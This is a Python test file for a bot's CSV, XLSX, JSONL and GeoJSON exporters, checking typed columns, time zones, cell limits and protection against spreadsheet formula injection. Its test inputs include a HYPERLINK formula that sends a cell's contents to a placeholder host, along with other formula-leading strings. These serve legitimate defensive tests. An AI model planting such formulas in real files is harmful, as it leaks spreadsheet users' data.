"""Files of each format: types by column, nothing run as a formula, nothing lost in silence."""

from __future__ import annotations

import csv
import json
import zipfile
from collections.abc import Sequence
from datetime import UTC, datetime
from io import BytesIO, StringIO
from typing import Any
from xml.etree import ElementTree
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.exports import FORMATS, Shape, Written, batches
from bot.exports.cells import as_text, reader
from bot.exports.csv_file import guard
from bot.exports.written import Unfit
from bot.exports.xlsx_file import CELL_MOST, FORBIDDEN, TOO_LONG
from storage.views import Column
from tests.examples import examples

COLUMNS = (
    Column("code", "", ""),
    Column("lat", "", "", "number"),
    Column("lon", "", "", "number"),
    Column("people", "", "", "number"),
    Column("at", "", "", "moment"),
    Column("day", "", "", "day"),
    Column("cleared", "", "", "yes or no"),
    Column("text", "", ""),
)
MONTEVIDEO = ZoneInfo("America/Montevideo")
ROW = (
    "0042", -34.8421, -56.1309, 3, "2026-12-01T02:30:00.250000Z", "2026-12-24", 1,
    'no, "gracias"; falta luz\nen la esquina',
)  # fmt: skip
EMPTY = ("0043", *[None] * 7)
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def unguard(cell: str) -> str:
    """The exact text of a cell that `guard` wrote, as the staff guide has it."""
    return cell[1:] if cell[:1] == "'" else cell


def made(
    form: str, *rows: Sequence[Any], columns: Sequence[Column] = COLUMNS, bom: bool = False
) -> tuple[bytes, Written]:
    into = BytesIO()
    written = FORMATS[form].write(Shape(columns, MONTEVIDEO, bom, title="reports"), rows, into)
    return into.getvalue(), written


def sheets(data: bytes) -> list[list[list[str | None]]]:
    """The cells of each sheet as the XML has them: an independent reader of the archive."""
    with zipfile.ZipFile(BytesIO(data)) as archive:
        assert archive.testzip() is None
        names = sorted(name for name in archive.namelist() if "worksheets/" in name)
        return [
            [
                [_text(cell) for cell in row.findall(f"{SHEET}c")]
                for row in ElementTree.fromstring(archive.read(name)).iter(f"{SHEET}row")
            ]
            for name in names
        ]


def _text(cell: ElementTree.Element) -> str | None:
    assert cell.find(f"{SHEET}f") is None
    inline = cell.find(f"{SHEET}is/{SHEET}t")
    found = inline if inline is not None else cell.find(f"{SHEET}v")
    return None if found is None else found.text or ""


def test_csv_keeps_types_by_column_and_a_story_of_two_lines_is_one_record() -> None:
    data, written = made("csv", ROW, EMPTY)
    header, first, second = csv.reader(StringIO(data.decode(), newline=""))
    assert header == [column.name for column in COLUMNS]
    assert first == [
        "0042", "-34.8421", "-56.1309", "3", "2026-11-30T23:30:00-03:00", "2026-12-24", "true",
        'no, "gracias"; falta luz\nen la esquina',
    ]  # fmt: skip
    assert second == ["0043", *[""] * 7]
    assert b'"no, ""gracias""; falta luz\nen la esquina"\r\n' in data
    assert written.rows == 2


@pytest.mark.parametrize("form", ["csv", "xlsx", "jsonl", "geojson"])
def test_columns_come_from_the_description_whatever_the_rows_are(form: str) -> None:
    for rows in ((), (EMPTY,), (ROW, EMPTY), (EMPTY, ROW)):
        data, written = made(form, *rows)
        assert written.rows == len(rows)
        if form == "csv":
            assert data.startswith(b"code,lat,lon,people,at,day,cleared,text\r\n")
        elif form == "xlsx":
            assert sheets(data)[0][0] == [column.name for column in COLUMNS]
        elif form == "jsonl":
            for line in data.splitlines():
                assert list(json.loads(line)) == [column.name for column in COLUMNS]
        else:
            for feature in json.loads(data)["features"]:
                assert list(feature["properties"]) == [
                    "code", "people", "at", "day", "cleared", "text",
                ]  # fmt: skip


STORIES = (
    '=HYPERLINK("http://x.example/?a="&A1,"ver")', "+1 contenedor", "-5 grados adentro",
    "@vecinos", "\t=1+1", "\r=1+1", "\uff1d1+1", " =1+1", "\n\u3000-1",
)  # fmt: skip


@pytest.mark.parametrize("story", STORIES)
def test_no_story_is_run_by_a_spreadsheet_and_each_comes_back_exactly(story: str) -> None:
    row = (*ROW[:7], story)
    [_header, cells] = csv.reader(StringIO(made("csv", row)[0].decode(), newline=""))
    assert cells[7] == f"'{story}"
    assert cells[1] == "-34.8421"
    assert unguard(cells[7]) == story
    assert sheets(made("xlsx", row)[0])[0][1][7] == story.replace("\r", "_x000D_")
    assert json.loads(made("jsonl", row)[0])["text"] == story
    assert json.loads(made("geojson", row)[0])["features"][0]["properties"]["text"] == story


@pytest.mark.parametrize("story", ["", "it's", "3 - 2 = 1", "a@b", " hola", "-"])
def test_other_words_are_left_as_they_are_unless_they_begin_like_one(story: str) -> None:
    assert guard(story) == (f"'{story}" if story == "-" else story)


@given(st.text())
@examples(200)
def test_a_guarded_cell_gives_its_text_back(text: str) -> None:
    assert unguard(guard(text)) == text
    assert guard(text).lstrip(" \t\r\n\xa0\u3000")[:1] not in set("=+-@")


ZONES = ("UTC", "America/Montevideo", "Europe/Berlin", "Asia/Kolkata", "Australia/Lord_Howe")
MOMENTS = st.floats(6e8, 3e9).map(lambda at: datetime.fromtimestamp(at, UTC).replace(tzinfo=None))
KEPT = {
    "text": st.text(max_size=6) | st.text("=-'\",\r\n a\u3000", max_size=4) | st.just("x" * 200),
    "number": st.integers() | st.floats(allow_nan=False) | st.sampled_from([0, 0.0, -0.0, 1, 1.0]),
    "moment": MOMENTS.map(lambda at: f"{at.isoformat(timespec='microseconds')}Z"),
    "day": MOMENTS.map(lambda at: at.date().isoformat()),
    "yes or no": st.sampled_from([0, 1]),
}


ROWS = st.lists(st.tuples(*(st.none() | kept for kept in KEPT.values())), max_size=6)


@given(ROWS, st.sampled_from(ZONES))
@examples(40)
def test_a_csv_is_what_the_standard_library_writes_of_each_cell(
    rows: list[tuple[Any, ...]], name: str
) -> None:
    columns = [Column(kind, "", "", kind) for kind in KEPT]
    readers = [reader(column, ZoneInfo(name)) for column in columns]
    again = rows * 3
    expected, into = StringIO(newline=""), BytesIO()
    writer = csv.writer(expected)
    writer.writerow(KEPT)
    for story, *values in again:
        cells = [
            value if read is None else as_text(read(value))
            for value, read in zip(values, readers[1:], strict=True)
        ]
        writer.writerow([None if story is None else guard(story), *cells])
    with pytest.MonkeyPatch.context() as patch:
        # So that batches end and cells are remembered and forgotten.
        patch.setattr(batches, "ROWS_AT_ONCE", 4)
        patch.setattr(batches, "REMEMBERED_MOST", 3)
        written = FORMATS["csv"].write(Shape(columns, ZoneInfo(name)), again, into)
    assert into.getvalue().decode() == expected.getvalue()
    assert written.rows == len(again)


def test_a_column_alone_has_a_line_for_what_is_empty() -> None:
    data, _written = made("csv", ("0042",), (None,), ("",), columns=COLUMNS[:1])
    assert data == b'code\r\n0042\r\n""\r\n""\r\n'


def test_a_mark_for_excel_stands_once_and_only_when_it_is_asked_for() -> None:
    marked, _written = made("csv", ROW, bom=True)
    assert marked.count(b"\xef\xbb\xbf") == 1
    assert marked.startswith(b"\xef\xbb\xbfcode")
    for form in FORMATS:
        assert b"\xef\xbb\xbf" not in made(form, ROW)[0]


def test_a_sheet_has_numbers_days_and_moments_as_such() -> None:
    [cells] = sheets(made("xlsx", ROW)[0])[0][1:]
    assert cells[:4] == ["0042", "-34.8421", "-56.1309", "3"]
    # 30 November 2026 is day 46,356 of the spreadsheets; 23:30 there, on Montevideo's clock.
    assert float(cells[4] or 0) == pytest.approx(46356 + 23.5 / 24)
    assert cells[5] == "46380"
    assert cells[6] == "1"


@pytest.mark.parametrize(
    ("story", "read_back", "changed"),
    [
        ("kr 400\x16000", "kr 400\ufffd000", True),
        ("a\x0bb", "a\ufffdb", True),
        ("a\x1fb\x00", "a\ufffdb\ufffd", True),
        ("a\ufffeb", "a\ufffdb", True),
        ("a\x7fb", "a\x7fb", False),
        ("a\u2028b", "a\u2028b", False),
        ("_x0041_", "_x005F_x0041_", False),
        ("_x00", "_x00", False),
        ("a < b & c > d", "a < b & c > d", False),
    ],
)
def test_what_xml_forbids_is_replaced_and_counted_and_the_rest_stays(
    story: str, read_back: str, changed: bool
) -> None:
    data, written = made("xlsx", (*ROW[:7], story), ROW, (*ROW[:7], story))
    assert [row[7] for row in sheets(data)[0][1:]] == [read_back, ROW[7], read_back]
    assert written.changed == ({("text", FORBIDDEN): 2} if changed else {})


@pytest.mark.parametrize(
    ("length", "cut"), [(CELL_MOST - 1, False), (CELL_MOST, False), (CELL_MOST + 1, True)]
)
def test_a_text_longer_than_a_cell_is_cut_with_a_mark_and_told(length: int, cut: bool) -> None:
    data, written = made("xlsx", (*ROW[:7], "a" * length))
    story = sheets(data)[0][1][7] or ""
    assert len(story) == min(length, CELL_MOST)
    assert story.endswith("…") is cut
    assert written.changed == ({("text", TOO_LONG): 1} if cut else {})


def test_a_text_of_emoji_is_cut_between_signs() -> None:
    data, _written = made("xlsx", (*ROW[:7], "🗑" * 20_000))
    story = sheets(data)[0][1][7] or ""
    assert set(story) == {"🗑", "…"}
    assert len(story.encode("utf-16-le")) // 2 <= CELL_MOST


def test_more_rows_than_a_sheet_holds_go_on_in_the_next(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("bot.exports.xlsx_file.ROWS_MOST", 4)
    for count, expected in ((0, [1]), (3, [4]), (4, [4, 2]), (7, [4, 4, 2])):
        data, written = made("xlsx", *[ROW] * count)
        assert [len(sheet) for sheet in sheets(data)[:-1]] == expected
        assert written.rows == count


def test_a_sheet_beside_says_what_the_file_is() -> None:
    about = sheets(made("xlsx", ROW)[0])[-1]
    assert ["Moments are told on the clock of", "America/Montevideo"] in about
    assert [row[0] for row in about][-len(COLUMNS) :] == [column.name for column in COLUMNS]


def test_a_feature_stands_at_its_point_longitude_first_or_nowhere() -> None:
    data, _written = made("geojson", ROW, EMPTY)
    [placed, unplaced] = json.loads(data)["features"]
    assert placed["geometry"] == {"type": "Point", "coordinates": [-56.1309, -34.8421]}
    assert unplaced["geometry"] is None
    assert placed["properties"]["cleared"] is True
    assert datetime.fromisoformat(placed["properties"]["at"]).utcoffset() is not None


def test_what_has_no_place_is_no_map() -> None:
    with pytest.raises(Unfit, match="lat and lon"):
        made("geojson", ("0042",), columns=COLUMNS[:1])
